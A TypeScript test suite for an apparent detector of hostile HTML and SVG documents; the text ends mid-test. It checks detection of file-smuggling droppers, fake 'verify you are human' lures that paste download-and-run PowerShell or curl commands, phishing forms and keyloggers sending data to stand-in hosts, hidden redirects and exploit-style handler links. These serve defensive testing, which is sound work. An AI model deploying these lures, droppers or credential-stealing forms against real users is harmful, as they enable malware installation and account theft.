/** Pages and drawings: each attack, the attack in disguise, and a harmless page that resembles it. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'
import { ARTICLE_MIN } from './forms.ts'
import { WHOLE_MAX } from './lures.ts'

const { inspect } = useInspector()

const PARAGRAPH =
  '<p>This page has a paragraph of text that explains what it is about, so that there is something to read.</p>'
const html = (script: string, body = PARAGRAPH): Uint8Array =>
  Buffer.from(`<!DOCTYPE html><html><body>${body}<script>${script}</script></body></html>`)
const svg = (content: string): Uint8Array => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`)

/** The findings that count against a document. */
function accusations(bytes: Uint8Array): string[] {
  const { findings, obstacle } = inspect(bytes)
  assert.equal(obstacle, null)
  return findings.filter(({ severity }) => severity !== 'notice').map(({ id }) => id.replace('Docvet.', ''))
}

const has = (bytes: Uint8Array, id: string): void => assert.ok(accusations(bytes).includes(id), `${accusations(bytes)}`)
const harmless = (bytes: Uint8Array): void => assert.deepEqual(accusations(bytes), [])

const archive = Buffer.from(writeZip([{ name: 'invoice.txt', data: Buffer.from('text') }]))
const SAVE =
  'const l=document.createElement("a");l.href=URL.createObjectURL(new Blob([u]));l.download="invoice.zip";l.click();'
const coded = archive.toString('base64')

suite('a script that opens another page', () => {
  const page = (inner: string) => btoa(`<html><body>${PARAGRAPH}<script>${inner}</script></body></html>`)
  const dropper = page(`const u=Uint8Array.from([${archive.join(',')}]);${SAVE}`)
  const blob = (text: string) => `URL.createObjectURL(new Blob([atob(${text})],{type:"text/html"}))`
  const openers: [string, string][] = [
    ['in a window', `function f(){var b=${blob(`"${dropper}"`)};window.open(b,"_blank")}`],
    ['in a frame', `document.getElementById("f").src=${blob(`"${dropper}"`)}`],
    ['written to a window', `var w=window.open();w.document.write(atob("${dropper}"))`],
    [
      'after the steps of a timer',
      `var p="${dropper}",n=0;var t=setInterval(function(){n+=30;if(n>700){clearInterval(t);open(${blob('p')})}},300)`,
    ],
    [
      'after frames of an animation, reversed',
      `var p="${[...dropper].reverse().join('')}",n=0;function f(){if(++n>9){open(${blob('p.split("").reverse().join("")')});return}requestAnimationFrame(f)}f()`,
    ],
  ]
  for (const [how, script] of openers)
    test(`${how} is judged by that page`, () => {
      has(html(script), 'Html.SmuggledFile')
      has(svg(`<g onclick="f()"/><script><![CDATA[${script}]]></script>`), 'Html.SmuggledFile')
    })

  test('with a report for printing is harmless', () => {
    const report = page('document.title="Report"')
    for (const [, script] of openers.slice(0, 4)) harmless(html(script.replace(dropper, report)))
  })
})

suite('a page that saves an archive from its own content', () => {
  const BYTES = 'const u=new Uint8Array(s.length);for(let i=0;i<s.length;i++)u[i]=s.charCodeAt(i);'
  const xored = Buffer.from(archive.map((byte, i) => byte ^ (i % 2 === 0 ? 0x6b : 0x79))).toString('base64')
  const forms: [string, string][] = [
    ['in Base64', `const s=atob("${coded}");${BYTES}${SAVE}`],
    ['reversed', `const s=atob("${[...coded].reverse().join('')}".split("").reverse().join(""));${BYTES}${SAVE}`],
    ['in pieces', `const p=["${coded.slice(0, 50)}","${coded.slice(50)}"];const s=atob(p.join(""));${BYTES}${SAVE}`],
    ['as numbers', `const u=new Uint8Array([${archive.join(',')}]);${SAVE}`],
    [
      'as shifted numbers',
      `const u=new Uint8Array([${archive.map((byte) => (byte + 7) & 255).join(',')}].map(n=>(n-7)&255));${SAVE}`,
    ],
    [
      'with a key',
      `const k="ky",s=[...atob("${xored}")].map((c,i)=>String.fromCharCode(c.charCodeAt(0)^k.charCodeAt(i%2))).join("");${BYTES}${SAVE}`,
    ],
    ['for old browsers', `const s=atob("${coded}");${BYTES}navigator.msSaveOrOpenBlob(new Blob([u]),"a.zip")`],
    [
      'as a data URL',
      `const l=document.createElement("a");l.href="data:application/zip;base64,${coded}";l.download="a.zip";l.click()`,
    ],
  ]
  for (const [name, script] of forms) test(name, () => has(html(script), 'Html.SmuggledFile'))

  test('with data and key in elements', () => {
    const read = (key: string) =>
      `window.onload=function(){const e=document.getElementById("c"),k=${key},s=[...atob(e.textContent.trim())].map((c,i)=>String.fromCharCode(c.charCodeAt(0)^k.charCodeAt(i%2))).join("");${BYTES}setTimeout(function(){${SAVE}},800)}`
    const element = `<div id="c" hidden data-the-key="ky">${xored}</div>`
    for (const key of ['e.dataset.theKey', 'e.getAttribute("data-the-key")'])
      has(html(read(key), element), 'Html.SmuggledFile')
    harmless(html('document.getElementById("c").dataset.theKey; atob("YQ==")', element))
  })

  test('with computed names', () => {
    const save =
      'const l=document["createElement"]("a");l["hr"+"ef"]=self["URL"]["createOb"+"jectURL"](new self["Bl"+"ob"]([u]));l["downl"+"oad"]="a.zip";l["cl"+"ick"]()'
    has(html(`const s=self["at"+"ob"]("${coded}");${BYTES}${save}`), 'Html.SmuggledFile')
  })

  test('kept in an element', () => {
    for (const read of ['getElementById("d").textContent', 'querySelector("#d").firstChild.data'])
      has(html(`const s=atob(document.${read});${BYTES}${SAVE}`, `<p id="d" hidden>${coded}</p>`), 'Html.SmuggledFile')
  })

  test('kept in pieces that cannot be put together', () => {
    const pieces = Array.from({ length: 24 }, (_, i) => `<i data-v="${`${i}`.padStart(60, 'aB3')}"></i>`).join('')
    const script = (name: string) =>
      `const o=[];document.body.querySelectorAll("i").forEach(e=>o.push(e.dataset.v));const u=atob(o.sort(k).join(""));const l=document.createElement("a");l.setAttribute("href",URL.createObjectURL(new Blob([u])));l.setAttribute("download","${name}");l.click()`
    has(html(script('a.zip'), pieces), 'Html.SmuggledFile')
    has(html(`b.onclick=()=>{${script('a.zip')}}`, pieces), 'Html.SmugglingParts')
    harmless(html(script('a.csv'), pieces))
    const hidden = `<p id="d">${'aB!#'.repeat(300)}</p>`
    const decoding = SAVE.replace('[u]', '[f(atob(document.getElementById("d").textContent))]')
    has(html(`b.onclick=()=>{${decoding}}`, hidden), 'Html.SmugglingParts')
    harmless(html(decoding, hidden.replaceAll('B!', ' a')))
    harmless(html(script('a.zip'), pieces.replaceAll('data-v="', 'src="data:image/png;base64,')))
  })

  test('but not a library that draws pictures for export', () => {
    const data = Buffer.from(Array.from({ length: 1200 }, (_, i) => (i * i * 31 + 7 * i) & 255)).toString('base64')
    const library = (type: string) =>
      `const data="${data}";const lib={save(t,e){const s=atob(t);${BYTES}const l=document.createElement("a");l.href=URL.createObjectURL(new Blob([u],{type:${type}}));l.download=e;l.click()}}`
    harmless(html(library('"image/"+e')))
    has(html(library('"application/octet-stream"')), 'Html.SmugglingParts')
  })

  test('in a drawing', () =>
    has(svg(`<script><![CDATA[const s=atob("${coded}");${BYTES}${SAVE}]]></script>`), 'Html.SmuggledFile'))

  test('or a script', () => {
    has(
      html(
        'const u="new ActiveXObject(1)";const l=document.createElement("a");l.href=URL.createObjectURL(new Blob([u]));l.download="a.js";l.click()',
      ),
      'Html.SmuggledFile',
    )
  })

  test('or data that cannot be told', () => {
    const noise = Buffer.from(Array.from({ length: 1200 }, (_, i) => (i * i * 31 + 7 * i + 129) & 255)).toString(
      'base64',
    )
    has(html(`const s=atob("${noise}");${BYTES}${SAVE.replace('.zip', '')}`), 'Html.SmugglingParts')
  })

  test('but not a table', () => {
    harmless(
      html(
        'b.onclick=()=>{const l=document.createElement("a");l.href=URL.createObjectURL(new Blob(["a,b\\n1,2"],{type:"text/csv"}));l.download="export.csv";l.click()}',
      ),
    )
  })

  test('and not a picture in Base64', () => {
    const picture = Buffer.from(`\x89PNG\r\n\x1a\n${'\0'.repeat(2000)}`, 'latin1').toString('base64')
    harmless(html(`const s=atob("${picture}");${BYTES}${SAVE.replace('invoice.zip', 'chart.png')}`))
  })
})

suite('a page that makes the reader run a command', () => {
  const COMMAND = 'powershell -w hidden -c "iwr https://example.com/a | iex"'
  const LURE = '<p>Verify you are human: press Windows + R, then Ctrl + V and Enter.</p>'

  test('from the clipboard', () =>
    has(html(`navigator.clipboard.writeText(${JSON.stringify(COMMAND)})`, LURE), 'Html.ClickFix'))

  test('built from pieces', () => {
    const command = Buffer.from(COMMAND).toString('base64')
    has(
      html(
        `document.onclick=()=>{const t=document.createElement("textarea");t.value=atob("${command}");t.select();document.execCommand("copy")}`,
      ),
      'Html.ClickFix',
    )
  })

  test('kept in an attribute', () => {
    has(
      html(
        'navigator.clipboard.writeText(document.getElementById("c").dataset.c)',
        `${LURE}<i id=c data-c="mshta https://example.com/v"></i>`,
      ),
      'Html.ClickFix',
    )
  })

  test('on a Mac', () => {
    has(
      html(
        'navigator.clipboard.writeText("curl -fsSL https://example.com/a | bash")',
        '<p>Verification: open Terminal, press Cmd + V.</p>',
      ),
      'Html.ClickFix',
    )
  })

  test('on a Mac, from coded text', () => {
    const command = `echo "Installer: https://example.com/" && echo "${btoa('curl -s http://192.0.2.1/a | bash')}" | base64 -d | bash`
    has(
      html(
        `navigator.clipboard.writeText(atob("${btoa(command)}"))`,
        '<p>1. Press <kbd>&#8984;</kbd>+<kbd>Space</kbd>, type <b>Terminal</b> 2. Press <kbd>&#8984;</kbd>+<kbd>V</kbd></p>',
      ),
      'Html.ClickFix',
    )
    has(html(`navigator.clipboard.writeText(atob("${btoa(command)}"))`), 'Html.ClickFix')
  })

  test('shown as text only', () => {
    has(Buffer.from(`<html><body>${LURE}<code>mshta https://example.com/v</code></body></html>`), 'Html.ClickFix')
  })

  test('but not a script or note with some tags', () => {
    const text =
      'Open PowerShell, verify the error and fix it: press Win+R, paste\n  powershell -c "iwr https://a.example/x.ps1 | iex"\n'
    has(Buffer.from(`<html><body><p>${text}</p></body></html>`), 'Html.CommandCopy')
    for (const tags of ['<Style TargetType="Button"/>', '<Button Name="a"/>', '<div>'])
      harmless(Buffer.from(`# Settings of the window\n$form = @"\n${tags}\n"@\n${text}`))
  })

  test('but not in a long page whose parts do not belong together', () => {
    const text = 'Open PowerShell, verify the error and fix it: press Win+R, paste'
    const command = 'powershell -c "iwr https://a.example/x.ps1 | iex"'
    const withBetween = (between: string): Buffer =>
      Buffer.from(`<html><body><p>${text}</p>${between}<p>${command}</p></body></html>`)
    const chapter = 'Words of another chapter. '.repeat(WHOLE_MAX / 26)
    has(withBetween(chapter.slice(0, 2_000)), 'Html.CommandCopy')
    harmless(withBetween(chapter))
    has(withBetween(`<p style="display:none">${chapter}</p>`), 'Html.CommandCopy')
  })

  test('but not a page that warns of it', () => {
    const page = `<html><body><h1>Fake captchas</h1>${LURE}<code>mshta https://example.com/v</code>Never run such a command.</body></html>`
    harmless(Buffer.from(page))
  })

  test('and not an installer with a copy button for several systems', () => {
    harmless(
      html(
        'const u="https://example.com/install.sh";b.onclick=()=>navigator.clipboard.writeText("curl -fsSL "+u+" | bash")',
        `${PARAGRAPH}<button id=b>Copy</button>`,
      ),
    )
  })

  test('after a harmless command for another system', () => {
    const buttons = [
      'curl -fsSL https://example.com/i.sh | sh',
      'powershell -w hidden -c "irm https://example.org/i | iex"',
    ]
      .map((command) => `navigator.clipboard.writeText(${JSON.stringify(command)})`)
      .join(';')
    has(html(buttons, PARAGRAPH), 'Html.ClickFix')
    has(html(buttons.replace('-w hidden ', ''), `${PARAGRAPH}${LURE}`), 'Html.ClickFix')
  })

  test('and not the installer of a tool, whatever its page says of terminals and checks', () => {
    const COMMANDS = [
      'powershell -ExecutionPolicy ByPass -c "irm https://example.com/install.ps1 | iex"',
      'powershell -c "irm example.com/install.ps1 | iex"',
      "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://example.com/install.ps1'))",
      'curl -fsSL https://example.com/install.sh | sh',
    ]
    const texts = [
      '<h1>Install the tool</h1><p>Open a terminal, run this and verify the installation.</p>',
      '<p>Windows</p>',
    ]
    for (const command of COMMANDS)
      for (const text of texts)
        harmless(
          html(
            'b.onclick=()=>navigator.clipboard.writeText(b.dataset.c)',
            `${text}<button id=b data-c="${command.replaceAll('"', '&quot;')}">Copy</button>`,
          ),
        )
  })

  test('but not documentation with a copy button', () => {
    harmless(
      html(
        'document.querySelectorAll("button").forEach(b=>b.onclick=()=>navigator.clipboard.writeText(b.previousSibling.textContent))',
        `${PARAGRAPH}<p>Install it in PowerShell:</p><pre>irm https://example.com/install.ps1 | iex</pre><button>Copy</button>`,
      ),
    )
  })

  test('and not a source line added to copied text', () => {
    harmless(
      html(
        'document.oncopy=(e)=>e.clipboardData.setData("text/plain",getSelection()+"\\nSource: https://example.com/powershell")',
      ),
    )
  })
})

suite('a page that asks for a password', () => {
  const FIELDS = '<input name=user><input type=password name=p>'

  test('and sends it to a server is suspicious', () => {
    has(html('', `<form action="https://example.com/post" method=post>${FIELDS}</form>`), 'Html.CredentialForm')
  })

  test('and hides the form', () => {
    const form = `<form action="https://example.com/post">${FIELDS}</form>`
    has(
      html(`document.write(unescape("${[...form].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}"))`),
      'Html.Phishing',
    )
  })

  test('and joins the form from plain pieces is only suspicious', () => {
    const joined = (action: string): Uint8Array =>
      html(
        `var f = '<form action="${action}" method="post">'; f += '<input name="mail" value="' + mail + '" \\/>'; f += '<input type="password" name="p" \\/><\\/form>'; document.write(f)`,
      )
    has(joined('https://example.com/post'), 'Html.CredentialForm')
    assert.ok(!accusations(joined('https://example.com/post')).includes('Html.Phishing'))
    has(joined(`https://' + atob("${btoa('example.com')}") + '/post`), 'Html.Phishing')
  })

  test('and hides the address', () => {
    has(html(`fetch(atob("${btoa('https://example.com/x')}"),{method:"POST",body:p.value})`, FIELDS), 'Html.Phishing')
  })

  test('and sends it to a bot', () => {
    has(html('fetch("https://api.telegram.org/bot123:abc/sendMessage?text="+p.value)', FIELDS), 'Html.Phishing')
  })

  test('and knows the reader', () => {
    const body = `<img src="data:image/png;base64,iVBORw0KGgo="><form action="https://example.com/p"><input value="reader@example.org">${FIELDS}</form>`
    has(html('', body), 'Html.Phishing')
  })

  test('but keeps it', () =>
    harmless(html('check(document.forms[0].p.value)', `<form action="/login">${FIELDS}</form>`)))

  suite('and loads or opens other things', () => {
    const login = (action: string, fields = FIELDS): string => `<form action="${action}" method="post">${fields}</form>`
    const share = 'function share(){window.open("https://social.example/share?url="+encodeURIComponent(location.href))}'
    const pages: Record<string, Uint8Array> = {
      'a window for sharing': html(share, login('/login')),
      'a window for sharing, by a method of the page': html(
        'function f(t){var w=window.open("https://api.chat.example/send?text="+t,"_blank");w.focus()}',
        FIELDS,
      ),
      'a counter of readers': html(
        'fetch("https://count.example/hit?u="+encodeURIComponent(location.href))',
        login('/login', '<input name=user><input type=password id=pw-field>'),
      ),
      'a form for another site': html(
        '',
        `<form action="https://news.example/subscribe"><input name=mail></form>${login('/in')}`,
      ),
    }
    for (const [name, page] of Object.entries(pages)) test(`such as ${name} is harmless`, () => harmless(page))
    const hostile: Record<string, [string, Uint8Array]> = {
      'a request for the password': [
        'Html.CredentialForm',
        html(
          'var x=new XMLHttpRequest();x.open("POST","https://kit.example/a");x.send(document.forms[0].p.value)',
          FIELDS,
        ),
      ],
      'a request by a method that is unknown': [
        'Html.CredentialForm',
        html(
          'function send(m){var x=new XMLHttpRequest();x.open(m,"https://kit.example/a");x.send(document.forms[0].p.value)}',
          FIELDS,
        ),
      ],
      'a coded request for the password': [
        'Html.Phishing',
        html(
          `var x=new XMLHttpRequest();x.open("POST",atob("${btoa('https://kit.example/a')}"));x.send(p.value)`,
          FIELDS,
        ),
      ],
      'a form inside another': [
        'Html.CredentialForm',
        html('', `<form action="https://kit.example/a">${login('/login')}`),
      ],
      'a field of another form': [
        'Html.CredentialForm',
        html('', `<form id=f action="https://kit.example/a"></form>${login('/in', '<input type=password form=f>')}`),
      ],
      'a button for another form': [
        'Html.CredentialForm',
        html('', login('/in', `${FIELDS}<button formaction="https://kit.example/a">Go</button>`)),
      ],
      'the keys that are pressed': [
        'Html.CredentialForm',
        html('document.onkeyup=function(e){fetch("https://kit.example/a?k="+e.key)}', '<input type=password>'),
      ],
    }
    for (const [name, [id, page]] of Object.entries(hostile)) test(`such as ${name}`, () => has(page, id))
  })

  test('beside an article of the same site is harmless', () => {
    const article = (characters: number, own = 'https://www.paper.example/a', code = ''): Uint8Array =>
      html(
        code,
        `<link rel="canonical" href="${own}"><form action="https://login.paper.example/in">${FIELDS}</form>${'Read this. '.repeat(characters / 11)}`,
      )
    harmless(article(ARTICLE_MIN * 1.1))
    has(article(ARTICLE_MIN * 0.9), 'Html.CredentialForm')
    has(article(ARTICLE_MIN * 1.1, 'https://www.other.example/a'), 'Html.CredentialForm')
    has(article(ARTICLE_MIN * 1.1, '/a'), 'Html.CredentialForm')
    has(
      article(ARTICLE_MIN * 1.1, undefined, `fetch(atob("${btoa('https://kit.example/x')}"),{body:p.value})`),
      'Html.Phishing',
    )
  })

  test('in a drawing', () => {
    has(svg(`<foreignObject><form action="https://example.com/p">${FIELDS}</form></foreignObject>`), 'Html.Phishing')
  })

  test('in a frame with its own content', () => {
    const form = `<html><body><form action="https://example.com/p">${FIELDS}</form></body></html>`
    has(html('', `<iframe src="data:text/html;base64,${btoa(form)}"></iframe>`), 'Html.Phishing')
    has(
      html(`location.href=URL.createObjectURL(new Blob([atob("${btoa(form)}")],{type:"text/html"}))`),
      'Html.Phishing',
    )
  })

  test('and was saved from the same site is harmless', () => {
    const page = (site: string, head = '') =>
      Buffer.from(
        `<!DOCTYPE html>\n<!-- saved from url=(0026)${site} -->\n<html>${head}<body>${PARAGRAPH}<form action="https://forum.example.org/login">${FIELDS}</form></body></html>`,
      )
    harmless(page('https://forum.example.org/'))
    has(page('https://www.example.com/'), 'Html.CredentialForm')
    has(page('https://forum.example.org/', '<base href="https://www.example.com/">'), 'Html.CredentialForm')
  })
})

test('a page that asks to paste a coded command needs no pretext', () => {
  const steps = '<ol><li>Press <b>Command + Space</b>, type Terminal.</li><li>Copy this line and paste it:</li></ol>'
  const coded = `bash -c "$(echo '${btoa('curl -fsSL http://files.example/u.sh | bash')}' | base64 -D)"`
  has(html('', `${PARAGRAPH}${steps}<pre>${coded}</pre>`), 'Html.ClickFix')
  harmless(html('', `${PARAGRAPH}${steps}<pre>curl -fsSL https://get.example.com | sh</pre>`))
})

suite('a page that leads away', () => {
  test('by a hidden address', () =>
    has(html(`location.href=atob("${btoa('https://example.com/x')}")`), 'Html.Redirect'))
  test('by a script that it decodes', () => {
    const go = btoa('location.replace("https://example.com/x")')
    has(html('', `<img src=x onerror="eval(atob('${go}'))">`), 'Html.HiddenRedirect')
    harmless(html(`eval(atob("${btoa('start("https://example.com/x")')}"))`))
  })
  test('at once', () =>
    has(Buffer.from('<html><meta http-equiv=refresh content="0;url=https://example.com/x"></html>'), 'Html.Redirect'))
  test('at once, to a script or a program that is called like a document', () => {
    const refresh = (target: string, body = '') =>
      Buffer.from(`<html><meta http-equiv=refresh content="0;url=${target}"><body>${body}</body></html>`)
    const trap = 'https://example.com/a/Invoice.vbs?d=1'
    for (const target of [
      trap,
      'https://example.com/Invoice.pdf.exe',
      '//example.com/a.hta',
      'https://example.com/a.lnk',
    ])
      has(refresh(target), 'Html.ProgramRedirect')
    has(html(`location.replace("${trap}")`, ''), 'Html.ProgramRedirect')
    has(html('', `<iframe src="${trap}"></iframe>`), 'Html.ProgramRedirect')
    has(svg(`<script>location="${trap}"</script>`), 'Html.ProgramRedirect')
    for (const target of [
      'https://example.com/setup.exe',
      'https://example.com/install.ps1',
      'https://example.com/a.js',
    ])
      has(refresh(target), 'Html.Redirect')
    harmless(refresh(trap, PARAGRAPH))
  })
  test('but says so', () =>
    harmless(
      Buffer.from(
        `<html><meta http-equiv=refresh content="5; URL='https://example.com/x'"><body>${PARAGRAPH}</body></html>`,
      ),
    ))
  test('to a page beside it', () =>
    harmless(Buffer.from('<html><meta http-equiv=refresh content="0;url=index.html"></html>')))
  test('to a program', () =>
    has(
      html('location.href="search-ms:query=a&crumb=location:\\\\\\\\files.example\\\\share"'),
      'Link.HandlerAutomatic',
    ))
})

suite('links of a page', () => {
  const link = (target: string) => Buffer.from(`<html><body>${PARAGRAPH}<a href="${target}">a</a></body></html>`)
  const image = (target: string) => Buffer.from(`<html><body>${PARAGRAPH}<img src='${target}'></body></html>`)
  test('to a troubleshooter', () => has(link('ms-msdt:/id PCWDiagnostic'), 'Link.Troubleshooter'))
  test('to the settings of Windows or a calendar is harmless', () => {
    harmless(link('ms-settings:windowsupdate'))
    harmless(link('webcal://example.com/a.ics'))
  })
  test('to a remote search', () =>
    has(link('search-ms:query=a&amp;crumb=location:%5C%5Cfiles.example%5Cs'), 'Link.HandlerProgram'))
  test('with escaped letters', () => has(link('&#115;earch-ms:query=a'), 'Link.Handler'))
  test('to a share', () => has(link('file://files.example/share/a.exe'), 'Link.FileServer'))
  test('to a document inside a company is harmless', () => {
    for (const target of ['file://fileserver01/IT/Notes.pdf', String.raw`\\files\Projects`, 'file://10.1.2.3/a/b.docx'])
      harmless(link(target))
    for (const target of [
      'file://files/a.exe',
      String.raw`\\files@80\a.pdf`,
      'file://192.0.2.1/a.pdf',
      'file://3221225985/a',
    ])
      has(link(target), 'Link.FileServer')
  })
  test('to a picture on a public file server', () =>
    has(image(String.raw`\\203.0.113.5\a.png`), 'Link.FileServerAutomatic'))
  test('to a picture on a server of the company', () => has(image('file://files/a.png'), 'Link.FileServer'))
  test('to a picture of a style on a public file server', () => {
    for (const style of [
      'background:url(file://files.example/a.png)',
      "background: URL( 'file://files.example/a.png')",
    ])
      has(html('', `<div style="${style}">${PARAGRAPH}</div>`), 'Link.FileServerAutomatic')
    for (const code of ['new URL(&#39;file://files.example/a&#39;)', 'url.URL(&#39;file://files.example/a&#39;)'])
      harmless(html('', `<pre><code>${code}</code></pre>${PARAGRAPH}`))
  })
  test('to web pages, mail and parts of the page are harmless', () => {
    for (const target of [
      'https://example.com/',
      'mailto:a@example.com',
      '#top',
      '//cdn.example/a',
      'javascript:void(0)',
      'file:///C:/a.htm',
    ])
      harmless(link(target))
  })
})

suite('an animation that makes a link a script', () => {
  const drawn = (element: string): Buffer =>
    Buffer.from(`<!DOCTYPE html><html><body><p>Note</p><svg><a id="l"><text>x</text></a>${element}</svg></body></html>`)
  for (const [name, element] of [
    ['with a space behind the name', '<animate href="#l" attributeName="href " to="javascript:alert(1)"/>'],
    ['of another space of names', '<animate attributeName="xlink:href" values="javascript:alert(1)"/>'],
    ['as one of several values', '<animate attributeName="href" values="#a;javascript:alert(1)" dur="1s"/>'],
    ['by a new value', '<set attributeName=" HREF" to="&#106;ava&#x09;script:alert(1)"/>'],
  ] as const)
    test(name, () => has(drawn(element), 'Svg.AnimatedScript'))
  test('is not one that only changes a link, or a colour', () => {
    for (const element of [
      '<animate attributeName="href" values="#a;#b" dur="1s"/>',
      '<animate attributeName="fill" values="red;blue" dur="1s"/>',
    ])
      assert.ok(!inspect(drawn(element)).findings.some(({ id }) => id === 'Docvet.Svg.AnimatedScript'))
  })
})

suite('a drawing', () => {
  test('in the source of a program is none', () => {
    const source = '<svg width="30"><path d="M1 1" onclick="fetch(1)"/></svg>'
    const idsOf = (text: string, name: string): string[] =>
      inspect(Buffer.from(text), { name }).findings.map(({ id }) => id)
    assert.ok(idsOf(source, 'a.tsx').includes('Docvet.Svg.Script'))
    assert.ok(idsOf(`const a = (\n${source}`, 'a.svg').includes('Docvet.Svg.Script'))
    assert.ok(!idsOf(`const a = (\n${source}`, 'a.tsx').includes('Docvet.Svg.Script'))
  })
  test('with a script is suspicious', () => has(svg('<script>fetch("https://example.com/")</script>'), 'Svg.Script'))
  test('with an event is suspicious', () => has(svg('<rect onclick="fetch(1)"/>'), 'Svg.Script'))
  test('with a script that only changes it is harmless', () => {
    harmless(
      svg(
        '<script>function init(e){var d=document.getElementById("d");d.textContent=window.location.search.substr(1)}</script><rect onclick="init(evt)"/>',
      ),
    )
    for (const script of ['open(a)', 'self[a](b)', 'top.location=a', 'new Image().src=a', 'document.write(a)', 'a(('])
      has(svg(`<script>${script}</script>`), 'Svg.Script')
  })
  test('with a script that searches and enlarges it is harmless', () => {
    const graph = (more: string): Uint8Array =>
      svg(
        `<script>function find(e,s){var parent=e.parentElement;return parent?find(parent,s):e}function text(e){return e.textContent.replace(/ x/,"")}${more}</script><g onclick="find(this,'g')"/>`,
      )
    harmless(graph(''))
    harmless(
      graph('function up(n){while(n){if(n.id)return n;n=n.up}return null}onclick=function(e){up(e).getAttribute("x")}'),
    )
    harmless(graph('function up(top){return top.parentNode}'))
    has(graph('function go(){location.replace("https://kit.example/")}'), 'Svg.Script')
    has(graph('parent.location="https://kit.example/"'), 'Svg.Script')
    has(graph('top["loc"+"ation"]="https://kit.example/"'), 'Svg.Script')
  })
  test('with a script beside it that moves and enlarges it is harmless', () => {
    const graph = (script: string, more = ''): Uint8Array =>
      svg(
        `<script>var g=document.getElementsByTagName('g');for(var i=0;i<g.length;i++)g[i].setAttribute('class','edge')</script>${script}<g id="a"><a xlink:href="b.html"><text>b</text></a></g><use onmousedown="handleZoom(evt,'in')"/>${more}`,
      )
    harmless(graph('<script xlink:href="svgpan.js"/>'))
    harmless(graph('<script type="text/javascript" href="./lib/pan.js" />'))
    has(graph('<script xlink:href="https://kit.example/a.js"/>'), 'Svg.Script')
    has(graph('<script xlink:href="//kit.example/a.js"/>'), 'Svg.Script')
    has(
      graph('<script xlink:href="pan.js"/>', '<script>location.href=atob("aHR0cHM6Ly9raXQuZXhhbXBsZS8=")</script>'),
      'Svg.Redirect',
    )
    // In a page inside the drawing, the tag does not end itself.
    has(graph(`<foreignObject><script/>eval(atob("${btoa('go()')}"))</script></foreignObject>`), 'Svg.Redirect')
    has(graph(`<script src=pan.js/>eval(atob("${btoa('go()')}"))</script>`), 'Svg.Redirect')
  })
  test('with the library of a maker of charts is harmless, beside a plain script', () => {
    const PYGAL = 'https://kozea.github.io/pygal.js/2.0.x/pygal-tooltips.min.js'
    const shows = 'document.getElementById("t").textContent=document.getElementById("b").getAttribute("data-v")'
    const chart = (library: string, script = shows): Uint8Array =>
      svg(`<script xlink:href="${library}"/><rect id="b" data-v="1"/><text id="t"/><script>${script}</script>`)
    harmless(chart(PYGAL))
    harmless(chart(PYGAL, 'window.pygal=window.pygal||{};window.pygal.config={"legend":true}'))
    harmless(chart('https://cdn.jsdelivr.net/npm/svg-pan-zoom@3.6.1/dist/svg-pan-zoom.min.js', 'svgPanZoom("#b")'))
    for (const library of [
      'https://files.example/pygal-tooltips.min.js',
      'http://kozea.github.io/pygal.js/2.0.x/pygal-tooltips.min.js',
      'https://kozea.github.io.files.example/pygal.js/a.js',
      'https://kozea.github.io/pygal.js/../a/a.js',
      'https://cdn.jsdelivr.net/npm/svg-pan-zoom-a@1.0.0/a.js',
    ])
      has(chart(library), 'Svg.Script')
    has(chart(PYGAL, 'fetch("https://kit.example/a")'), 'Svg.Script')
    has(chart(PYGAL, 'location="https://kit.example/a"'), 'Svg.Script')
    has(chart(PYGAL, `eval(atob("${btoa('go()')}"))`), 'Svg.Redirect')
  })
  test('with a script that saves the drawing itself is harmless', () => {
    const save = (content: string, more = ''): Uint8Array =>
      svg(
        `<script>function save(){var s=new XMLSerializer().serializeToString(document.documentElement);var a=document.createElementNS("http://www.w3.org/1999/xhtml","a");a.href=URL.createObjectURL(new Blob([${content}],{type:"image/svg+xml"}));a.download="plan.svg";a.click()${more}}</script><text onclick="save()">Save</text>`,
      )
    harmless(save('s'))
    harmless(save('s', ';a.remove()'))
    harmless(save('s', ';document.getElementById("t").textContent="Saved"'))
    harmless(save('s', ';URL.revokeObjectURL(a.href)'))
    for (const [content, more] of [
      ['data', ''],
      ['s', ';a.href="https://kit.example/"'],
      ['s,data', ''],
      ['s', ';fetch("https://kit.example/",{body:s})'],
      ['s', ';location=a.href'],
    ] as const)
      has(save(content, more), 'Svg.Script')
  })
  test('with letters of a handler as references', () => {
    has(svg('<rect onclick="&#111;pen(1)"/>'), 'Svg.Redirect')
    has(svg('<a href="java&#x73;cript:open(1)"/>'), 'Svg.Redirect')
    harmless(svg('<rect onclick="f(&quot;a&quot;, &#39;b&#39;)"/>'))
  })
  test('with a namespace prefix', () => {
    has(Buffer.from('<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>open(a)</s:script></s:svg>'), 'Svg.Script')
  })
  test('with a hidden address', () =>
    has(svg(`<script>window.location.href=atob("${btoa('https://example.com/')}")</script>`), 'Svg.Redirect'))
  test('by entities', () => {
    const entities = '<!DOCTYPE svg [<!ENTITY a "loca"><!ENTITY b "&a;tion=atob(">]>'
    const drawing = svg('')
      .toString()
      .replace('<svg', `<svg onload="&b;'${btoa('https://example.com/')}')"`)
    has(Buffer.from(`<?xml version="1.0"?>${entities}${drawing}`), 'Svg.Redirect')
  })
  test('that runs built text', () => has(svg(`<script>eval(atob("${btoa('go()')}"))</script>`), 'Svg.Redirect'))
  test('with references in its script', () =>
    has(svg(`<script>&#101;val(atob("${btoa('go()')}"))</script>`), 'Svg.Redirect'))
  test('that leads to another address by itself', () => {
    const refresh = (url: string) =>
      svg(
        `<foreignObject><html xmlns="http://www.w3.org/1999/xhtml"><meta http-equiv="Re&#102;resh" content="0; url=${url}"/></html></foreignObject>`,
      )
    has(refresh('https://example.com/x'), 'Html.Redirect')
    has(svg('<script>location="https://example.com/"</script>'), 'Svg.Script')
    has(svg('<script>location="https://example.com/?u=a@b.example"</script>'), 'Svg.Redirect')
    has(svg(`<rect onclick="location.href='https://example.com/?u=a@b.example'"/>`), 'Svg.Script')
    harmless(refresh('#next'))
  })
  test('with a command for a converter', () =>
    has(Buffer.from('<image authenticate=\'ff" `id`;"\'><read filename="pdf:a"/></image>'), 'Svg.ImageCommand'))
  test('with shapes and labels in HTML is harmless', () => {
    harmless(
      svg(
